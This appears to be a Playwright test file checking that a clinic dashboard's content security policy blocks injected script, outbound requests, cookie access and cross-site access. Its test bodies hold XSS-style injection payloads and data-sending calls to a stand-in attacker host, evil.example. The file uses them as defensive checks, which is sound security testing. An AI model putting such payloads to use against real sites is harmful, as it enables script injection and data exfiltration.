/* oxlint-disable typescript/no-implied-eval, typescript/no-unsafe-call, typescript/no-unsafe-return, eslint/no-eval -- what is
   tried here is what must not work */
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures/test.ts';

/** What the browser said no to, as the page's own events report it. */
async function collectViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.evaluate(() => {
    const seen: string[] = [];
    Object.assign(window, { seenViolations: seen });
    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
  });
  return () => page.evaluate(() => (window as unknown as { seenViolations: string[] }).seenViolations);
}

test('the board shows without a single complaint of the policy', async ({ page, console }) => {
  const complaints: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') complaints.push(message.text());
  });
  page.on('pageerror', (error) => complaints.push(error.message));
  await console.open(page);
  await expect(page.getByRole('meter').first()).toBeVisible();
  expect(complaints).toEqual([]);
});

test('the page runs no script but its own', async ({ page, board }) => {
  await expect(board.row('Clinic B')).toBeVisible();
  const violations = await collectViolations(page);
  const ran = await page.evaluate(async () => {
    const marks: string[] = [];
    Object.assign(window, { mark: (what: string) => marks.push(what) });
    const attempts: (() => unknown)[] = [
      () => new Function('mark("Function")')(),
      () => (0, eval)('mark("eval")'),
      () => setTimeout('mark("timer")', 0),
      () => (document.body.innerHTML += '<img src="x:" onerror="mark(\'attribute\')">'),
      () => document.body.append(Object.assign(document.createElement('script'), { textContent: 'mark("inline")' })),
      () =>
        document.body.append(
          Object.assign(document.createElement('script'), { src: 'data:text/javascript,mark("data")' }),
        ),
      () => document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })),
      () => new Worker(URL.createObjectURL(new Blob(['']))),
    ];
    // In tasks of the page's own: inside `evaluate` the developer tools lift the ban on eval.
    for (const attempt of attempts) {
      await new Promise<void>((resolve) => {
        setTimeout(() => {
          try {
            attempt();
          } catch {
            // Refused, as it should be.
          }
          setTimeout(resolve, 20);
        }, 0);
      });
    }
    return marks;
  });
  expect(ran).toEqual([]);
  expect(new Set(await violations())).toContain('require-trusted-types-for');
});

test('the page talks to its console and to nobody else', async ({ page, board, console }) => {
  await expect(board.row('Clinic B')).toBeVisible();
  const violations = await collectViolations(page);
  const reached = await page.evaluate(async (origin) => {
    const reached: string[] = [];
    const places = ['https://evil.example/', 'http://127.0.0.1:9/', `${origin}/index.html`, 'data:text/plain,x'];
    for (const place of places) {
      await fetch(place).then(
        () => reached.push(place),
        () => undefined,
      );
    }
    for (const place of ['wss://evil.example/', 'ws://127.0.0.1:9/rpc']) {
      try {
        new WebSocket(place).addEventListener('open', () => reached.push(place));
      } catch {
        // Refused, as it should be.
      }
    }
    const image = Object.assign(new Image(), { src: 'https://evil.example/pixel.png' });
    await new Promise((resolve) => image.addEventListener('error', resolve));
    navigator.sendBeacon('https://evil.example/', 'x');
    const frame = Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' });
    document.body.append(frame);
    const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' });
    document.body.append(form);
    form.submit();
    await new Promise((resolve) => setTimeout(resolve, 200));
    return reached;
  }, console.origin);
  expect(reached).toEqual([]);
  const seen = await violations();
  for (const directive of ['connect-src', 'img-src', 'form-action']) expect(seen).toContain(directive);
  expect(seen.some((directive) => directive === 'frame-src' || directive === 'default-src')).toBe(true);
  expect(new URL(page.url()).origin).toBe(console.origin);
});

test(
  'the cookie is out of reach for scripts, and the address works once',
  { tag: '@browser' },
  async ({ page, browser, console }) => {
    const address = console.newAddress();
    await page.goto(address);
    await expect(page.getByRole('meter').first()).toBeVisible();
    expect(await page.evaluate(() => document.cookie)).toBe('');
    expect(page.url()).not.toContain('open');

    const stranger = await browser.newContext();
    const strangersPage = await stranger.newPage();
    expect((await strangersPage.goto(address))?.status()).toBe(401);
    await expect(strangersPage.getByText('was used already')).toBeVisible();
    expect((await strangersPage.goto(console.origin))?.status()).toBe(401);
    await stranger.close();
  },
);

test(
  'a page of another site gets nothing, even in a browser that is signed in',
  { tag: '@browser' },
  async ({ page, context, console }) => {
    await page.goto(console.newAddress());
    await expect(page.getByRole('meter').first()).toBeVisible();
    const other = await context.newPage();
    await context.route('http://elsewhere.example/**', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<p>other' }),
    );
    await other.goto('http://elsewhere.example/');
    const result = await other.evaluate(async (origin) => {
      const dialled = await new Promise((resolve) => {
        const socket = new WebSocket(`${origin.replace('http', 'ws')}/rpc`);
        socket.addEventListener('open', () => resolve('open'));
        socket.addEventListener('error', () => resolve('refused'));
      });
      const fetched = await fetch(`${origin}/`, { credentials: 'include' }).then(
        () => 'read',
        () => 'refused',
      );
      const frame = Object.assign(document.createElement('iframe'), { src: `${origin}/` });
      document.body.append(frame);
      await new Promise((resolve) => frame.addEventListener('load', resolve));
      return { dialled, fetched };
    }, console.origin);
    expect(result).toEqual({ dialled: 'refused', fetched: 'refused' });
    const framed = other.frames().at(-1);
    expect(await framed?.evaluate(() => document.body.innerText).catch(() => '')).not.toContain('Clinic B');
  },
);
